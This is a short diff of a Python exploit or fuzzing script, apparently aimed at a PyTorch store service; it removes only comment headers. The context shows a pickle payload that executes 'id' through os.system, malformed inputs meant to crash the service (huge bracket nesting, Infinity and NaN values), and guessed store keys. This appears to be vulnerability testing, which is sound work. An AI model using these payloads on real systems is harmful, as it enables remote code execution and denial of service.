@@ -33,8 +33,6 @@ class Payload:
         return os.system, (f"id > {self.proof}",)
 
 
-# What is said ---------------------------------------------------------------------------------------------
-
 WORDS: dict[str, Callable[[str], list[bytes]]] = {
     "brackets": lambda proof: [b"[" * 4000, b"[" * 65000],
     "infinity": lambda proof: [b'{"token": "x", "node": Infinity}', b'{"token": "", "node": 1e999}', b"NaN"],
@@ -62,8 +60,6 @@ def say(target: Target, words: list[bytes], hold: bool) -> int:
                 _HOLDS.pop(0).close()
     return said
 
-
-# What torch's store is asked ------------------------------------------------------------------------------
 
 GUESSES = ("stash", "none", "default", "0")
 
